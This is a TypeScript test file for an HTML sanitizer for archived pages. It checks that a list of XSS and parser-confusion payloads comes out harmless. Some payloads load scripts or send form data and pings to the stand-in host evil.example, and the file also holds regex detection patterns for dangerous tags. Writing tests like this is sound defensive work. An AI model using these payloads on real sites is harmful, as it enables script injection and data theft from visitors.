import fc from "fast-check";
import { type DefaultTreeAdapterMap, parse } from "parse5";
import { describe, expect, it } from "vitest";
import { archivedPagePolicy, sanitizeArchived } from "./sanitize-archived.ts";

type Element = DefaultTreeAdapterMap["element"];

/** Every element as a browser's parser reads the result. */
function elementsOf(html: string): Element[] {
  const all: Element[] = [];
  const visit = (node: DefaultTreeAdapterMap["node"]) => {
    if ("tagName" in node) all.push(node);
    if ("content" in node) visit(node.content);
    if ("childNodes" in node) for (const child of node.childNodes) visit(child);
  };
  visit(parse(html));
  return all;
}

/** What could run, load, submit or lead away, in what a browser would make of the result. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  for (const element of elementsOf(html)) {
    const isHeadMeta = element.tagName === "meta" && element.attrs.every(({ name }) => name === "charset");
    if (
      /^(?:script|iframe|frame|frameset|object|embed|link|base|form|input|button|svg|math|meta|template|video|audio|portal)$/u.test(
        element.tagName,
      ) &&
      !isHeadMeta
    ) {
      dangers.push(element.tagName);
    }
    for (const { name, value } of element.attrs) {
      if (
        /^on/u.test(name) ||
        /^(?:href|srcset|action|formaction|background|poster|data|ping|srcdoc|http-equiv|xlink:href)$/u.test(name)
      ) {
        dangers.push(`${element.tagName} ${name}`);
      }
      if (name === "src" && !/^data:image\/(?:png|jpeg|gif|webp);base64,/u.test(value)) dangers.push(`src ${value}`);
      if (name === "style" && /url|expression|import|\\/iu.test(value)) dangers.push(`style ${value}`);
    }
    if (element.tagName === "style") {
      const text = element.childNodes.map((child) => ("value" in child ? child.value : "")).join("");
      if (/url\s*\(|@import|\\/iu.test(text)) dangers.push(`style text ${text}`);
    }
  }
  return dangers;
}

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)" alt="A hall">',
  '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/a.png">',
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href="https://news.example/b" ping="https://evil.example">y</a>',
  '<form action="https://evil.example"><input name=a><button formaction=//evil.example>Go</button></form>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  "<style>@import 'https://evil.example/a.css';</style>",
  "<style>body{background:url(https://evil.example/a.png)}</style>",
  "<style>p{color:red}</style>",
  '<p style="background:url(//evil.example); color: red">styled</p>',
  '<p style="color: red; position: absolute">styled</p>',
  "<div style='width: expression(alert(1))'>x</div>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><script>alert(1)</script></textarea>",
  "<template><script>alert(1)</script></template>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<table background='//evil.example/a.png'><tr><td onmouseover=alert(1)>cell",
  "<video poster=//evil.example><source src=//evil.example></video>",
  "<object data=//evil.example></object><embed src=//evil.example>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<p title='a\"><script>alert(1)</script>'>quoted</p>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<plaintext><script>alert(1)</script>",
  "<p>Plain words",
  "</p></div>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<a title='`' href=`javascript:alert(1)`>z</a>",
];

describe("sanitizeArchived", () => {
  it.each(attacks)("makes %j harmless", (attack) => {
    expect(dangersIn(sanitizeArchived(`<html><body>${attack}<p>after</p></body></html>`))).toEqual([]);
  });

  it("makes any mixture harmless", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...attacks), fc.string({ maxLength: 12 })), { maxLength: 12 }), (parts) => {
        expect(dangersIn(sanitizeArchived(parts.join("")))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  it("keeps the text, its structure and its direction", () => {
    const html = sanitizeArchived(
      `<html lang="he" dir="rtl"><head><title>כותרת &amp; more</title></head><body><h1>כותרת</h1><ul><li>A &lt; B</ul>
       <table><tr><td colspan=2 style="text-align: center">x</table><img alt="The hall" src="/hall.jpg"><a href="https://news.example/b">more</a></body></html>`,
    );
    expect(html).toContain('<html lang="he" dir="rtl">');
    expect(html).toContain("<title>כותרת &amp; more</title>");
    expect(html).toContain("<h1>כותרת</h1>");
    expect(html).toContain("<li>A &lt; B</li>");
    expect(html).toContain('<td colspan="2" style="text-align: center">x</td>');
    expect(html).toContain("[Picture not archived: The hall]");
    expect(html).toContain('<a title="https://news.example/b">more</a>');
  });

  it("survives nesting without end", () => {
    expect(dangersIn(sanitizeArchived(`${"<div>".repeat(50_000)}deep<script>1</script>`))).toEqual([]);
    expect(sanitizeArchived(`${"<b>".repeat(50_000)}deep`)).toContain("deep");
  });

  it("comes with a policy under which nothing runs or loads", () => {
    expect(archivedPagePolicy).toMatch(/default-src 'none'.*sandbox$/u);
    expect(archivedPagePolicy).not.toContain("allow-");
  });
});
